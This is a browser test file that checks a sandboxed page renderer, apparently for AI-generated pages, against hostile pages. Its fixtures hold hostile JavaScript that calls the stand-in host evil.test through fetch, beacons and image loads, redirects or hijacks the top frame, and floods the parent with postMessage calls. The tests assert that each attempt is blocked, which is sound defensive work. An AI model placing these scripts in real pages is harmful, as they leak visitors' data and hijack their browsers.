"""What a hostile page cannot do from inside its frame, and what the shell makes of what frames say."""

from typing import Any

import pytest
from playwright.sync_api import Route, expect

from tests.browser.conftest import Visit
from tests.browser.pages import write

pytestmark = pytest.mark.browser

ATTEMPTS = """
window.outcome = {};
const attempt = async (name, act) => {
  try { outcome[name] = String(await act()) } catch (error) { outcome[name] = error.name }
};
window.ready = Promise.all([
  attempt('fetch', () => fetch('https://evil.test/')),
  attempt('own', () => fetch('/healthz')),
  attempt('socket', () => new Promise((done, fail) => {
    const socket = new WebSocket('ws://' + location.host + '/ws');
    socket.onopen = () => done('open');
    socket.onerror = () => fail(new DOMException('', 'refused'));
  })),
  attempt('beacon', () => navigator.sendBeacon('https://evil.test/')),
  attempt('image', () => new Promise((done, fail) => {
    const image = new Image();
    image.onload = () => done('loaded');
    image.onerror = () => fail(new DOMException('', 'refused'));
    image.src = 'https://evil.test/leak.png';
  })),
  attempt('top', () => { top.location = 'https://evil.test/' }),
  attempt('parent', () => parent.document.title),
  attempt('storage', () => { delete self.localStorage; return localStorage.length }),
  attempt('cookie', () => document.cookie),
  attempt('popup', () => open('https://evil.test/')),
  attempt('rtc', () => typeof RTCPeerConnection + typeof webkitRTCPeerConnection),
  attempt('dialog', () => confirm('really?')),
  attempt('camera', () => document.featurePolicy.allowsFeature('camera')),
]);
"""
HOSTILE = (
    "<!doctype html><meta http-equiv=refresh content='0;url=https://evil.test/'><base href=https://evil.test/>"
    f"<title>Hostile</title><h1>Hostile</h1><iframe src=https://evil.test/></iframe><script>{ATTEMPTS}</script>"
)
LEAK = "<title>Leak</title><h1>Leak</h1><script>setTimeout(()=>location.href='https://evil.test/?leak',50)</script>"
PUSHY = (
    "<title>Pushy</title><h1>Pushy</h1><a href=/wiki>Lava</a>"
    "<script>addEventListener('load',()=>{document.querySelector('a').click();parent.postMessage({silverprint:'ready'},'*');"
    "for(let i=0;i<500;i++)parent.postMessage({verb:'act',target:{tag:'a',text:'x',href:'/wiki'}},'*')})</script>"
)
STUCK = "<title>Stuck</title><h1>Stuck</h1><script>while(true);</script>"


def outside(visit: Visit) -> list[str]:
    """Requests from now on that would leave this machine."""
    seen: list[str] = []

    def note(route: Route) -> None:
        seen.append(route.request.url)
        route.abort()

    visit.page.route("https://evil.test/**", note)
    return seen


def test_a_hostile_page_reaches_nothing(visit: Visit) -> None:
    visit.service.engine.write = lambda prompt: HOSTILE
    requests = outside(visit)
    visit.ask("something hostile")
    live = visit.ready("Hostile")
    outcome: dict[str, Any] = live.evaluate("ready.then(() => outcome)")
    assert outcome == {
        "fetch": "TypeError",
        "own": "TypeError",
        "socket": "refused",
        "beacon": outcome["beacon"],
        "image": "refused",
        "top": "SecurityError",
        "parent": "SecurityError",
        "storage": "ReferenceError",
        "cookie": "SecurityError",
        "popup": "null",
        "rtc": "undefinedundefined",
        "dialog": "false",
        "camera": "false",
    }
    assert live.locator("base, iframe, meta").count() == 0
    assert visit.page.url == visit.service.address
    assert requests == []
    visit.complained("evil.test")


def test_a_page_cannot_leave_its_frame_for_another_site(visit: Visit) -> None:
    visit.service.engine.write = lambda prompt: LEAK
    requests = outside(visit)
    visit.ask("something that leaks")
    expect(visit.page.locator(".notice")).to_have_text("This page tried to leave for evil.test and was stopped.")
    visit.complained("evil.test")
    visit.page.wait_for_timeout(500)
    assert requests == []
    assert visit.page.url == visit.service.address


def test_a_page_acts_only_on_a_gesture_inside_it(visit: Visit) -> None:
    visit.service.engine.write = lambda prompt: PUSHY
    asked = len(visit.service.engine.prompts)
    visit.ask("something pushy")
    live = visit.ready("Pushy")
    visit.page.wait_for_timeout(1000)
    assert len(visit.service.engine.prompts) == asked + 1
    visit.service.engine.write = write
    live.get_by_role("link", name="Lava").click()
    visit.ready("Lava")


@pytest.mark.parametrize("way", ["ask", "back"])
def test_a_page_that_never_ends_its_script_harms_itself_alone(visit: Visit, way: str) -> None:
    visit.ask("an encyclopedia article about volcanoes")
    visit.ready("Volcano")
    visit.service.engine.write = lambda prompt: STUCK
    visit.ask("something stuck")
    visit.shown("Stuck")
    visit.service.engine.write = write
    if way == "ask":
        visit.ask("an encyclopedia article about volcanoes")
    else:
        visit.page.get_by_role("button", name="Back").click()
    live = visit.ready("Volcano")
    assert live.locator("h1").inner_text() == "Volcano"
    visit.ask("an encyclopedia article about plate tectonics")
    visit.ready("Plate Tectonics")


def read(visit: Visit, said: object) -> Any:
    """What the shell makes of a frame's message."""
    return visit.page.evaluate("async said => (await import('/static/pages/frame-messages.js')).readSaid(said)", said)


NOTHING: list[object] = [
    None, 7, "act", {}, {"verb": "go"}, {"verb": "act"}, {"verb": "act", "target": {"tag": "a"}},
    {"verb": "pick"}, {"verb": "point", "target": {"tag": "a"}}, {"verb": "pick", "target": {"tag": "B", "text": ""}},
    {"verb": "act", "target": {"tag": "<b>", "text": ""}}, {"verb": "act", "target": {"tag": 1, "text": ""}},
]  # fmt: skip


def test_what_frames_say_is_read_with_suspicion(visit: Visit) -> None:
    assert [read(visit, said) for said in NOTHING] == [None] * len(NOTHING)
    form = {"q": "w" * 9999, "": "n", "n": 1}
    target = {"tag": "form", "text": "x" * 5000, "href": 3, "value": "v", "extra": 1, "form": form}
    kept = {"tag": "form", "text": "x" * 1000, "value": "v", "form": {"q": "w" * 4000}}
    for verb in ("act", "hint", "pick", "point"):
        assert read(visit, {"verb": verb, "target": target}) == {"verb": verb, "target": kept}
    for nth, known in ((2, {"nth": 2}), (0, {"nth": 0}), (-1, {}), (1.5, {}), (10**6, {}), ("2", {})):
        said = read(visit, {"verb": "pick", "target": {"tag": "p", "text": "x", "nth": nth}})
        assert said["target"] == {"tag": "p", "text": "x", **known}
    for verb in ("leave", "selecting"):
        assert read(visit, {"verb": verb, "target": target}) == {"verb": verb}
    many = {"tag": "form", "text": "", "form": {f"f{index}": "" for index in range(99)}}
    assert len(read(visit, {"verb": "act", "target": many})["target"]["form"]) == 32


def test_numbers_from_frames_are_finite(visit: Visit) -> None:
    script = """async () => (await import('/static/pages/frame-messages.js')).readSaid(
        {verb: 'view', x: NaN, y: Infinity, focus: -7, edited: [[1, 'a', 1], [2], ['b', 'c', true], 5]})"""
    assert visit.page.evaluate(script) == {
        "verb": "view",
        "x": 0,
        "y": 0,
        "focus": -1,
        "edited": [[1, "a", False], [0, "c", True]],
    }
    assert read(visit, {"verb": "shown", "page": "p", "title": "\ud800a", "blank": 1}) == {
        "verb": "shown",
        "page": "p",
        "title": "\ufffda",
        "blank": False,
    }


def test_a_form_sends_no_password(visit: Visit) -> None:
    form = (
        "<form action=/account><input type=password name=key value=hunter2><input name=user value=ann>"
        "<input name=again autocomplete=new-password value=hunter3><input name=town value=Ghent>"
        "<button>Enter</button></form>"
    )
    visit.service.engine.write = lambda prompt: f"<title>Login</title><h1>Login</h1>{form}"
    visit.ask("a login page")
    live = visit.ready("Login")
    asked = len(visit.service.engine.prompts)
    live.get_by_role("button", name="Enter").click()
    expect(visit.page.get_by_role("textbox", name="Address")).to_have_value("/account/ann")
    visit.ready("Login", live)
    assert len(visit.service.engine.prompts) == asked + 1
    assert "open: /account ann" in visit.service.engine.prompts[-1]
    assert "hunter" not in visit.service.engine.prompts[-1]
